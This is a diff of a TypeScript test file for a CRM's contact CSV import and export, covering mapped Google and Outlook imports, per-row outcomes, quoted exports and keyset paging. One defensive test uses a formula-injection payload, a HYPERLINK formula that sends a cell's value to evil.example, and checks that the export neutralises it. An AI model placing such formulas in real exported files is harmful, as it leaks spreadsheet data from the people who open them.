@@ -1,7 +1,9 @@
+import { readFileSync } from "node:fs";
 import { schema } from "@poundline/db";
 import { and, eq } from "drizzle-orm";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
 import type { ImportPreviewJson } from "../../src/crm/csv-schemas";
+import { IMPORT_MESSAGES } from "../../src/crm/import-person";
 import { createTestApp, type TestApp } from "../../src/testing";
 import { createUser, type SignedIn, signIn, type TestUser } from "../fixtures";
 
@@ -39,15 +41,31 @@ async function contactsOf() {
 }
 
 describe("contacts CSV import", () => {
-  it("previews each row with the phone numbers already in the account, writing nothing", async () => {
+  it("previews each row's outcome, the phone numbers already in the account included, writing nothing", async () => {
     const res = await post("/api/contacts/import/preview", file);
     expect(res.statusCode, res.body).toBe(200);
     const preview = res.json<ImportPreviewJson>();
-    expect(preview).toMatchObject({ valid: 3, invalid: 0, existing: 1, fileError: null });
-    expect(preview.rows.map((r) => [r.line, r.existing])).toEqual([
-      [2, true],
-      [3, false],
-      [4, false],
+    expect(preview).toMatchObject({
+      format: "poundline",
+      encoding: "utf-8",
+      ready: 2,
+      existing: 1,
+      skipped: 0,
+    });
+    expect(preview.columns.map((c) => c.field)).toEqual([
+      "name",
+      "phone",
+      "email",
+      "company",
+      "lead_status",
+      "contact_type",
+      "tags",
+      "follow_up_date",
+    ]);
+    expect(preview.rows.map((r) => [r.row, r.outcome])).toEqual([
+      [2, "existing"],
+      [3, "ready"],
+      [4, "ready"],
     ]);
     expect(await contactsOf()).toHaveLength(1);
   });
@@ -55,7 +73,20 @@ describe("contacts CSV import", () => {
   it("imports the new rows and skips those whose phone is already a contact's, which stays as it was", async () => {
     const res = await post("/api/contacts/import", file);
     expect(res.statusCode, res.body).toBe(200);
-    expect(res.json()).toEqual({ created: 2, skipped: 1 });
+    expect(res.json()).toEqual({
+      created: 2,
+      skipped: 1,
+      rows: [
+        {
+          row: 2,
+          name: "Ada Again",
+          phone: "(415) 555-0100",
+          email: "",
+          outcome: "existing",
+          problems: [],
+        },
+      ],
+    });
     const rows = await contactsOf();
     expect(rows).toHaveLength(3);
     const existing = rows.find((r) => r.phone === "+14155550100");
@@ -74,8 +105,60 @@ describe("contacts CSV import", () => {
     expect(grace?.lastContacted).not.toBeNull();
     // Importing the same file again changes nothing.
     const again = await post("/api/contacts/import", file);
-    expect(again.json()).toEqual({ created: 0, skipped: 3 });
+    expect(again.json()).toMatchObject({ created: 0, skipped: 3 });
     expect(await contactsOf()).toHaveLength(3);
+  });
+
+  it("imports a Google Contacts export through the mapping the person changed, reporting each row left out", async () => {
+    const bytes = readFileSync(new URL("./fixtures/google-contacts.csv", import.meta.url));
+    const preview = await t.app.inject({
+      method: "POST",
+      url: "/api/contacts/import/preview",
+      headers: session.headers,
+      payload: { file: bytes.toString("base64") },
+    });
+    const { columns, format } = preview.json<ImportPreviewJson>();
+    expect(format).toBe("google");
+    // The person does not want the job titles.
+    const mapping = columns.map((c) => (c.header === "Organization Title" ? null : c.field));
+    const res = await t.app.inject({
+      method: "POST",
+      url: "/api/contacts/import",
+      headers: session.headers,
+      payload: { file: bytes.toString("base64"), mapping },
+    });
+    expect(res.statusCode, res.body).toBe(200);
+    expect(res.json()).toEqual({
+      created: 3,
+      skipped: 1,
+      rows: [
+        {
+          row: 4,
+          name: "Marco Rossi",
+          phone: "",
+          email: "marco@example.it",
+          outcome: "skipped",
+          problems: [{ field: "phone", message: IMPORT_MESSAGES.noPhone }],
+        },
+      ],
+    });
+    const jane = (await contactsOf()).find((r) => r.phone === "+14155550142");
+    expect(jane).toMatchObject({ name: "Dr. Jane Q. Doe", company: "Acme Corp", tags: ["VIP", "Customers"] });
+    expect(jane?.customFields).toMatchObject({ "Phone (Mobile)": "+14155550143", Department: "Sales" });
+    expect(jane?.customFields).not.toHaveProperty("Job Title");
+  });
+
+  it("reads an Outlook export in Windows-1252 with its accents whole", async () => {
+    const bytes = readFileSync(new URL("./fixtures/outlook-windows-1252.csv", import.meta.url));
+    const res = await t.app.inject({
+      method: "POST",
+      url: "/api/contacts/import",
+      headers: session.headers,
+      payload: { file: bytes.toString("base64") },
+    });
+    expect(res.json()).toMatchObject({ created: 2, skipped: 0 });
+    const names = (await contactsOf()).map((r) => r.name);
+    expect(names).toEqual(expect.arrayContaining(["Mme Hélène Dupré", "José Muñoz"]));
   });
 });
 
@@ -96,9 +179,10 @@ describe("contacts CSV export", () => {
       .trim()
       .split("\r\n");
     expect(lines[0]).toBe(
-      "name,phone,email,company,address,notes,lead_status,contact_type,source,tags,last_contacted,follow_up_date",
+      '"name","phone","email","company","address","notes","lead_status","contact_type","source","tags","last_contacted","follow_up_date"',
     );
-    expect(lines).toHaveLength(4);
+    expect(all.body.startsWith("\uFEFF")).toBe(true);
+    expect(lines).toHaveLength(1 + (await contactsOf()).length);
     expect(all.body).toContain('"US Navy, Retired"');
 
     const filtered = await t.app.inject({
@@ -108,11 +192,35 @@ describe("contacts CSV export", () => {
     });
     const filteredLines = filtered.body.trim().split("\r\n");
     expect(filteredLines).toHaveLength(2);
-    expect(filteredLines[1]).toMatch(/^Grace Hopper,\+14155550101,/);
+    expect(filteredLines[1]).toMatch(/^"Grace Hopper","\+14155550101",/);
 
     // The export is a valid import: every row is already there.
     const preview = await post("/api/contacts/import/preview", all.body);
-    expect(preview.json<ImportPreviewJson>()).toMatchObject({ valid: 3, invalid: 0, existing: 3 });
+    expect(preview.json<ImportPreviewJson>()).toMatchObject({
+      ready: 0,
+      skipped: 0,
+      existing: lines.length - 1,
+    });
+  });
+
+  it("neutralises a name a spreadsheet would run as a formula, and leaves E.164 numbers as numbers", async () => {
+    const name = '=HYPERLINK("http://evil.example/?"&A1,"Click me")';
+    const created = await t.app.inject({
+      method: "POST",
+      url: "/api/contacts",
+      headers: session.headers,
+      payload: { name, phone: "4155550177", notes: "@SUM(1+1)" },
+    });
+    expect(created.statusCode, created.body).toBe(201);
+    const res = await t.app.inject({
+      method: "GET",
+      url: "/api/contacts/export.csv?q=4155550177",
+      headers: session.headers,
+    });
+    const [, row] = res.body.trim().split("\r\n");
+    expect(row).toMatch(
+      /^"'=HYPERLINK\(""http:\/\/evil\.example\/\?""&A1,""Click me""\)","\+14155550177","","","","'@SUM\(1\+1\)",/,
+    );
   });
 
   it("pages through a large account by keyset, every contact once", async () => {
@@ -137,7 +245,7 @@ describe("contacts CSV export", () => {
       .trim()
       .split("\r\n")
       .slice(1)
-      .map((line) => line.split(",")[0]);
+      .map((line) => line.split(",")[0]?.replaceAll('"', ""));
     expect(names).toHaveLength(2500);
     expect(new Set(names).size).toBe(2500);
     await t.db.db
